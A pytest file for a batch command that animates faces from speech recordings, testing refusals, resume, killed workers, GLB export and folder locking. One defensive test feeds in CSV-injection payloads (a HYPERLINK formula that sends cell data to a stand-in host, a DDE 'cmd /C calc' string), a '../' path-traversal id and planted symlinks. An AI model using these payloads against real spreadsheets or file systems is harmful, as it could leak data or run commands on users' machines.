"""`python -m model_server batch` on real recordings: worker processes, refusals, resume, a killed worker."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from model_server.curves import load_curves

REPO = Path(__file__).resolve().parents[3]
ANGRY = "A fairly angry person speaks with brow quite lowered."


def batch(*args: str, timeout: float = 900, cwd: Path = REPO) -> subprocess.CompletedProcess:
    """The batch command run in `cwd` (relative paths in the arguments are the caller's)."""
    return subprocess.run([sys.executable, "-m", "model_server", "batch", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=timeout, env=dict(os.environ, PYTHONPATH=str(REPO)))


def write_csv(path: Path, rows: list[dict]) -> Path:
    fields = sorted({key for row in rows for key in row})
    with open(path, "w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)
    return path


def summary(out: Path) -> dict[str, dict]:
    """The summary's lines by id; a refused line whose id is taken (or unusable) by its number too."""
    lines = {}
    for line in json.loads((out / "summary.json").read_text())["lines"]:
        lines[f"line {line['number']}"] = line
        lines.setdefault(line["id"], line)
    return lines


@pytest.fixture(scope="module")
def library(tmp_path_factory, asterisk_recording, front_center_wav):
    """A folder with real recordings, a broken and an empty file, and a manifest naming them."""
    folder = tmp_path_factory.mktemp("library")
    (folder / "audio").mkdir()
    password, password_text = asterisk_recording("agent-pass")
    shutil.copy(password, folder / "audio" / "password.wav")
    french, french_text = asterisk_recording("agent-pass", "fr")
    shutil.copy(french, folder / "audio" / "mot de passe.wav")
    shutil.copy(front_center_wav, folder / "audio" / "front center.wav")
    (folder / "audio" / "broken.wav").write_bytes(b"RIFF\x10\x00\x00\x00WAVEfmt garbage, not audio")
    (folder / "audio" / "empty.wav").write_bytes(b"")
    rows = [
        {"id": "password", "audio": "audio/password.wav", "transcript": password_text, "instruction": ANGRY,
         "character": "Operator"},
        {"id": "heard", "audio": "audio/front center.wav", "instruction": ANGRY, "fps": "30", "seed": "4"},
        {"id": "agent_writes", "audio": "audio/password.wav", "transcript": password_text},
        {"id": "segments", "audio": "audio/password.wav", "transcript": password_text, "segments": json.dumps(
            [{"start": 0, "end": 1.2, "instruction": ANGRY},
             {"start": 1.2, "end": 9, "instruction": "A slightly happy person speaks with mouth corners raised."}])},
        {"id": "broken", "audio": "audio/broken.wav", "instruction": ANGRY},
        {"id": "empty", "audio": "audio/empty.wav", "instruction": ANGRY},
        {"id": "../outside", "audio": "audio/password.wav"},
        {"id": "password", "audio": "audio/password.wav"},
        {"id": "missing", "audio": "audio/missing.wav"},
        {"id": "klingon", "audio": "audio/password.wav", "language": "tlh"},
        {"id": "french", "audio": "audio/mot de passe.wav", "transcript": french_text, "language": "fr",
         "instruction": ANGRY},
        {"id": "mislabelled", "audio": "audio/front center.wav", "transcript": password_text, "instruction": ANGRY},
    ]
    return folder, write_csv(folder / "lines.csv", rows), rows


@pytest.fixture(scope="module")
def first_run(library, tmp_path_factory):
    folder, manifest, _ = library
    out = tmp_path_factory.mktemp("out")
    done = batch(str(manifest), "-o", str(out), "--workers", "2", "--live-link")
    return out, done


def test_every_line_is_animated_or_refused_with_its_reason(first_run, library):
    out, done = first_run
    assert done.returncode == 1, done.stderr[-3000:]  # some lines refused: not all ok
    assert "6 ok, 6 refused, 0 failed" in done.stdout
    assert "2 worker processes" in done.stderr and "left" in done.stderr  # progress with the time left
    lines = summary(out)
    assert {line["id"] for line in lines.values() if line["status"] == "ok"} == {
        "password", "heard", "agent_writes", "segments", "french", "mislabelled"}
    assert "does not fit this audio" in lines["mislabelled"]["reason"]  # ok, and said: the words heard were used
    assert not lines["password"]["reason"]
    assert "cannot decode audio" in lines["broken"]["reason"]
    assert "empty" in lines["empty"]["reason"]
    assert "cannot name a file" in lines["../outside"]["reason"]
    assert "already used by line 1" in lines["line 8"]["reason"]
    assert "no such audio file" in lines["missing"]["reason"]
    assert "eSpeak NG has no voice" in lines["klingon"]["reason"]
    assert lines["password"]["character"] == "Operator"
    rows = list(csv.DictReader(open(out / "summary.csv")))
    assert len(rows) == 12 and [r["line"] for r in rows] == [str(n) for n in range(1, 13)]
    assert not (out.parent / "outside.json").exists()


def test_each_line_gets_its_curves_and_live_link_files(first_run):
    out, _ = first_run
    password = load_curves(out / "password.json")
    assert password["instruction"] == ANGRY and password["transcript_source"] == "given"
    assert (password["language"], password["phoneme_source"]) == ("en", "pocketsphinx")  # auto: told English
    french = load_curves(out / "french.json")
    assert (french["language"], french["phoneme_source"], french["transcript_source"]) == ("fr", "espeak-ng", "given")
    heard = load_curves(out / "heard.json")
    assert heard["fps"] == 30 and heard["transcript_source"] == "recognized" and heard["model"]["take"]["seed"] == 4
    written = load_curves(out / "agent_writes.json")["instruction"]
    assert written and written != ANGRY
    segments = load_curves(out / "segments.json")["segments"]
    assert [s["instruction"].split()[2] for s in segments] == ["angry", "happy"]
    header = (out / "heard.live_link.csv").read_text().splitlines()[0]
    assert header.startswith("Timecode,BlendShapeCount")
    assert not list(out.rglob("*.partial")), "every file was written whole"


def test_a_rerun_skips_finished_lines_and_redoes_changed_ones(first_run, library):
    out, _ = first_run
    folder, manifest, rows = library
    before = {p.name: p.stat().st_mtime_ns for p in out.glob("*.json") if p.name != "summary.json"}
    again = batch(str(manifest), "-o", str(out), "--workers", "2", "--live-link")
    assert "6 done before" in again.stderr and "6 ok, 6 refused" in again.stdout, again.stderr[-2000:]
    lines = summary(out)
    assert all(lines[name]["resumed"] for name in ("password", "heard", "agent_writes", "segments", "french", "mislabelled"))
    assert {p.name: p.stat().st_mtime_ns for p in out.glob("*.json") if p.name != "summary.json"} == before
    changed = [dict(row, instruction="A slightly sad person speaks.") if row["id"] == "heard" else row for row in rows]
    write_csv(manifest, changed)
    try:
        third = batch(str(manifest), "-o", str(out), "--workers", "1", "--live-link")
    finally:
        write_csv(manifest, rows)
    assert "5 done before" in third.stderr, third.stderr[-2000:]
    assert load_curves(out / "heard.json")["instruction"] == "A slightly sad person speaks."
    assert (out / "password.json").stat().st_mtime_ns == before["password.json"]


def test_a_killed_worker_s_line_runs_again(library, tmp_path):
    folder, _, rows = library
    manifest = write_csv(tmp_path / "two.csv", [dict(rows[0], audio=str(folder / rows[0]["audio"])),
                                                dict(rows[1], audio=str(folder / rows[1]["audio"]))])
    out = tmp_path / "out"
    process = subprocess.Popen([sys.executable, "-m", "model_server", "batch", str(manifest), "-o", str(out),
                                "--workers", "1"], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    attempts = out / ".avi-batch" / "password.attempts"
    deadline = time.monotonic() + 120
    while not attempts.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(1.0)  # the worker is loading its models for the line
    os.kill(int(attempts.read_text().split()[0]), signal.SIGKILL)
    stdout, stderr = process.communicate(timeout=600)
    assert process.returncode == 0, stderr[-3000:]
    lines = summary(out)
    assert lines["password"]["status"] == "ok" and lines["password"]["attempts"] == 2
    assert lines["heard"]["status"] == "ok"
    load_curves(out / "password.json")


MAKE_RIG = """
import sys
import bpy
from model_server.arkit import ARKIT_NAMES
bpy.ops.wm.read_factory_settings(use_empty=True)
for name in ("Prop", "Face"):
    mesh = bpy.data.meshes.new(name)
    mesh.from_pydata([(0, 0, 0), (0.1, 0, 0), (0, 0, 0.1)], [], [(0, 1, 2)])
    obj = bpy.data.objects.new(name, mesh)
    bpy.context.scene.collection.objects.link(obj)
obj.shape_key_add(name="Basis")
for i, key in enumerate(ARKIT_NAMES):
    obj.shape_key_add(name=key).data[2].co.z += 0.001 * (i + 1)  # every key moves, or glTF drops it
bpy.ops.wm.save_as_mainfile(filepath=sys.argv[1])
"""


def glb_json(path: Path) -> dict:
    import struct

    data = path.read_bytes()
    length = struct.unpack_from("<I", data, 12)[0]
    return json.loads(data[20:20 + length])


@pytest.mark.parametrize("rig", ["demo", "rig file"])
def test_lines_are_baked_onto_a_face_as_glb(library, tmp_path, rig):
    folder, _, rows = library
    manifest = write_csv(tmp_path / "two.csv", [dict(row, audio=str(folder / row["audio"])) for row in rows[:2]])
    if rig == "rig file":
        rig = str(tmp_path / "rig.blend")
        subprocess.run([sys.executable, "-c", MAKE_RIG, rig], cwd=REPO, check=True, capture_output=True,
                       env=dict(os.environ, PYTHONPATH=str(REPO)), timeout=300)
    out = tmp_path / "out"
    done = batch("two.csv", "-o", "out", "--glb", rig, cwd=tmp_path)  # relative paths, from the user's folder
    assert done.returncode == 0, done.stderr[-3000:]
    lines = summary(out)
    for name in ("password", "heard"):
        assert lines[name]["outputs"] == [f"{name}.json", f"{name}.glb"]
        gltf = glb_json(out / f"{name}.glb")
        assert "jawOpen" in gltf["meshes"][0]["extras"]["targetNames"]
        sampler = gltf["animations"][0]["samplers"][0]
        frames = load_curves(out / f"{name}.json")["num_frames"]
        assert abs(gltf["accessors"][sampler["input"]]["count"] - frames) <= 1  # a key per frame of the line


def test_a_glb_batch_without_a_usable_rig_stops_before_any_line(library, tmp_path):
    folder, manifest, _ = library
    done = batch(str(manifest), "-o", str(tmp_path / "out"), "--glb", str(tmp_path / "absent.blend"))
    assert done.returncode == 2 and "no such .blend file" in done.stderr
    assert not (tmp_path / "out" / "summary.json").exists()


def test_the_batch_writes_only_inside_its_folder_and_no_cell_is_a_formula(tmp_path, front_center_wav):
    """Links planted in a shared output folder are replaced, not followed; a manifest's words reach
    summary.csv as text a spreadsheet will not run."""
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "out"
    (out / ".avi-batch").mkdir(parents=True)
    for name in ("fc.json", "fc.live_link.csv", "summary.json", "summary.csv", ".avi-batch/fc.json",
                 ".avi-batch/fc.attempts"):
        target = outside / name.replace("/", "_")
        target.write_text("precious")
        (out / name).symlink_to(target)
    manifest = write_csv(tmp_path / "lines.csv", [
        {"id": "fc", "audio": str(front_center_wav), "transcript": "front center", "instruction": ANGRY,
         "character": '=HYPERLINK("http://x.example/?"&A1,"click")'},
        {"id": "bad", "audio": str(front_center_wav), "character": "+cmd|' /C calc'!A0", "seed": "@SUM(1)"}])
    done = batch(str(manifest), "-o", str(out), "--live-link")
    assert "fc: ok" in done.stderr, done.stderr[-2000:]  # (exit status 1: a line was refused)
    assert all(p.read_text() == "precious" for p in outside.iterdir())  # nothing written through the links
    for name in ("fc.json", "fc.live_link.csv", "summary.json", "summary.csv"):
        assert not (out / name).is_symlink() and (out / name).is_file()
    rows = list(csv.DictReader((out / "summary.csv").open()))
    assert rows[0]["character"].startswith("'=HYPERLINK") and rows[0]["status"] == "ok"
    assert rows[1]["character"].startswith("'+cmd") and rows[1]["status"] == "refused"


def test_a_second_batch_on_the_same_folder_stops_at_once(tmp_path, front_center_wav):
    from model_server.batch.runner import folder_lock

    out = tmp_path / "out"
    (out / ".avi-batch").mkdir(parents=True)
    manifest = write_csv(tmp_path / "lines.csv", [{"id": "fc", "audio": str(front_center_wav)}])
    with folder_lock(out):  # this process is the first batch
        started = time.monotonic()
        done = batch(str(manifest), "-o", str(out))
    assert done.returncode != 0 and f"another batch (process {os.getpid()}) is writing to" in done.stderr
    assert time.monotonic() - started < 60 and not (out / "fc.json").exists()


def test_workers_die_with_the_batch(long_speech_wav, tmp_path):
    """kill -9 of the batch process while its two workers animate: both are gone within seconds."""
    manifest = write_csv(tmp_path / "long.csv", [{"id": f"long{i}", "audio": str(long_speech_wav)} for i in range(4)])
    out = tmp_path / "out"
    process = subprocess.Popen([sys.executable, "-m", "model_server", "batch", str(manifest), "-o", str(out),
                                "--workers", "2"], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    records = out / ".avi-batch"
    while len(list(records.glob("*.attempts")) if records.is_dir() else []) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    workers = {int(p.read_text().split()[0]) for p in records.glob("*.attempts")}
    assert len(workers) == 2
    process.kill()
    process.communicate(timeout=60)

    def alive(pid: int) -> bool:
        try:
            state = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0]
        except OSError:
            return False
        return state != "Z"

    deadline = time.monotonic() + 15
    while any(alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not any(alive(pid) for pid in workers)
